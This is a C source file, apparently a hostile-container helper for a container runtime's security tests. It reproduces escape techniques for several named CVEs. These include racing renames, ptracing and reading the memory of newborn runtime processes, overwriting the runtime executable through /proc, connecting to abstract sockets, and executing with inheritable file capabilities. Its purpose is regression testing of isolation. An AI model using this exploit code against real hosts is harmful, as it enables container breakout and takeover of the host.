/*
 * attack.c - what a hostile container does, for the tests beside it. Static, so that it runs in any root.
 *
 *   attack exchange A B            exchanges two names for ever (renameat2, RENAME_EXCHANGE)
 *   attack spy SECONDS             looks into every process that is born in its pid namespace (CVE-2016-9962)
 *   attack look PID                looks into one process
 *   attack overwrite SECONDS       opens the executable of every such process and writes to it (CVE-2019-5736)
 *   attack connect NAME…           connects to sockets; a leading @ is an abstract name (CVE-2020-15257)
 *   attack inherit                 executes, as another user, a program with inheritable capabilities (CVE-2022-29162)
 *   attack permitted               says what capabilities it has
 *
 * What it got it prints; a line that begins with "got" is an escape.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

/* Of time, not steps: where others take the processors a process does not move at each step. */
enum { FIRST_SECONDS = 30, STEPS_SECONDS = 1 };

static double now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static _Noreturn void exchange(const char *a, const char *b) {
  for (;;) syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2u /* RENAME_EXCHANGE */);
}

/* The target of /proc/PID/NAME; false where this process may not know it. */
static int target(int pid, const char *name, char *text, size_t size) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
  ssize_t n = readlink(path, text, size - 1);
  if (n < 0) return 0;
  text[n] = 0;
  return 1;
}

static int is_executor(int pid) {
  char exe[256];
  return target(pid, "exe", exe, sizeof exe) && strstr(exe, "brig-shim") != NULL;
}

static int is_command(int pid) {
  char exe[256];
  return target(pid, "exe", exe, sizeof exe) && strstr(exe, "brig-shim") == NULL;
}

/* Everything that an executor must not give away while it lives beside this process. */
static int look(int pid) {
  char path[64], text[256];
  int got = 0;
  if (is_executor(pid)) got += printf("got exe of %d\n", pid);
  for (const char **name = (const char *[]){"root", "cwd", NULL}; *name; name++)
    if (target(pid, *name, text, sizeof text) && is_executor(pid)) got += printf("got %s of %d: %s\n", *name, pid, text);
  snprintf(path, sizeof path, "/proc/%d/fd", pid);
  DIR *fds = opendir(path);
  for (struct dirent *entry; fds != NULL && (entry = readdir(fds)) != NULL;) {
    char name[300];
    snprintf(name, sizeof name, "fd/%s", entry->d_name);
    if (entry->d_name[0] != '.' && target(pid, name, text, sizeof text) && is_executor(pid))
      got += printf("got fd %s of %d: %s\n", entry->d_name, pid, text);
  }
  if (fds != NULL) closedir(fds);
  if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0) {
    if (is_executor(pid)) got += printf("got %d itself by ptrace\n", pid);
    ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
    waitpid(pid, NULL, __WALL);
    ptrace(PTRACE_DETACH, pid, NULL, NULL);
  }
  snprintf(path, sizeof path, "/proc/%d/mem", pid);
  int memory = open(path, O_RDONLY | O_CLOEXEC);
  if (memory >= 0 && is_executor(pid)) got += printf("got memory of %d\n", pid);
  if (memory >= 0) close(memory);
  return got;
}

/* The next process to be born, stopped at once: it then goes on a few instructions at a time. */
static int stop_next(int *next, double end) {
  while (now() < end)
    for (int pid = *next; pid < *next + 4; pid++)
      if (kill(pid, SIGSTOP) == 0) {
        *next = pid + 1;
        return pid;
      }
  return 0;
}

static void go_on(int pid, int steps) {
  kill(pid, SIGCONT);
  for (volatile int i = 0; i < steps; i++) continue;
}

/* Its time begins with the first process that it sees: on a busy machine that may take a while. */
static int spy(double seconds) {
  double end = now() + FIRST_SECONDS;
  int next = getpid() + 1, seen = 0, got = 0, pid;
  printf("ready\n");
  while (!got && (pid = stop_next(&next, end)) != 0) {
    if (seen++ == 0) end = now() + seconds;
    double enough = now() + STEPS_SECONDS;
    for (int step = 0; now() < enough && kill(pid, 0) == 0 && !got; step++) {
      go_on(pid, 50 * (step % 40));
      for (int i = 0; i < 4 && !got; i++) got = is_executor(pid);
      kill(pid, SIGSTOP);
      if (got || step % 8 == 0) got = look(pid);
      if (!got && is_command(pid)) break;
    }
    kill(pid, SIGCONT);
  }
  printf("looked into %d\n", seen);
  return 0;
}

/* Writing works only once nothing executes the file any more. */
static int write_to(int held) {
  char path[32];
  snprintf(path, sizeof path, "/proc/self/fd/%d", held);
  for (double end = now() + 1; now() < end;) {
    int file = open(path, O_WRONLY | O_CLOEXEC);
    if (file >= 0 && write(file, "#!/bin/pwned\n", 13) == 13) return 1;
    if (file >= 0) close(file);
  }
  return 0;
}

static int overwrite(double seconds) {
  double end = now() + seconds;
  int next = getpid() + 1, seen = 0, held = -1, pid;
  printf("ready\n");
  while (held < 0 && (pid = stop_next(&next, end)) != 0) {
    seen++;
    double enough = now() + STEPS_SECONDS;
    for (int step = 0; now() < enough && kill(pid, 0) == 0 && held < 0; step++) {
      char path[64];
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      go_on(pid, 50 * (step % 40));
      for (int i = 0; i < 4 && held < 0; i++)
        if (is_executor(pid)) held = open(path, O_RDONLY | O_CLOEXEC);
      kill(pid, SIGSTOP);
    }
    kill(pid, SIGCONT);
    kill(pid, SIGKILL);
  }
  /* Who waits for the line with what it has seen knows the rest by then. */
  if (held >= 0) printf("held the executable\n");
  printf("looked into %d\n", seen);
  if (held >= 0 && write_to(held)) printf("got to write to it\n");
  return 0;
}

static int connect_to(const char *name) {
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  size_t length = strlen(name);
  if (length > sizeof address.sun_path - 1) length = sizeof address.sun_path - 1;
  memcpy(address.sun_path, name, length);
  /* As the kernel shows zeroes. */
  for (size_t i = 0; name[0] == '@' && i < length; i++)
    if (address.sun_path[i] == '@') address.sun_path[i] = 0;
  int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  socklen_t size = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + length + (name[0] != '@'));
  if (connect(s, (struct sockaddr *)&address, size) == 0)
    printf("got through to %s\n", name);
  else
    printf("%s: %s\n", name, strerror(errno));
  close(s);
  return 0;
}

static int permitted(void) {
  char line[256];
  FILE *status = fopen("/proc/self/status", "r");
  while (status != NULL && fgets(line, sizeof line, status) != NULL)
    if (strncmp(line, "CapPrm:", 7) == 0) {
      if (strtoull(line + 7, NULL, 16) != 0) printf("got ");
      printf("%s", line);
    }
  return 0;
}

/* A copy of this program that anybody's inheritable capabilities become permitted for (capabilities(7)). */
static int inherit(void) {
  const char *copy = "/tmp/attack-with-capabilities";
  mkdir("/tmp", 0777);
  chmod("/tmp", 01777);
  int from = open("/proc/self/exe", O_RDONLY | O_CLOEXEC), to = open(copy, O_WRONLY | O_CREAT | O_CLOEXEC, 0755);
  struct stat st;
  if (from < 0 || to < 0 || fstat(from, &st) != 0) return perror("copy"), 1;
  while (sendfile(to, from, NULL, (size_t)st.st_size) > 0) continue;
  close(to);
  struct vfs_cap_data data = {.magic_etc = VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE};
  data.data[0].inheritable = data.data[1].inheritable = ~0u;
  if (setxattr(copy, "security.capability", &data, sizeof data, 0) != 0) return perror("setxattr"), 1;
  printf("prepared\n");
  fflush(stdout);
  if (setgid(1000) != 0 || setuid(1000) != 0) return perror("setuid"), 1;
  execl(copy, copy, "permitted", (char *)NULL);
  return perror("execl"), 1;
}

int main(int argc, char **argv) {
  const char *verb = argc > 1 ? argv[1] : "";
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (strcmp(verb, "exchange") == 0 && argc == 4) exchange(argv[2], argv[3]);
  if (strcmp(verb, "spy") == 0 && argc == 3) return spy(atof(argv[2]));
  if (strcmp(verb, "look") == 0 && argc == 3) return look(atoi(argv[2])) ? 0 : (printf("nothing\n"), 0);
  if (strcmp(verb, "overwrite") == 0 && argc == 3) return overwrite(atof(argv[2]));
  if (strcmp(verb, "inherit") == 0) return inherit();
  if (strcmp(verb, "permitted") == 0) return permitted();
  for (int i = 2; strcmp(verb, "connect") == 0 && i < argc; i++) connect_to(argv[i]);
  return strcmp(verb, "connect") == 0 ? 0 : 2;
}
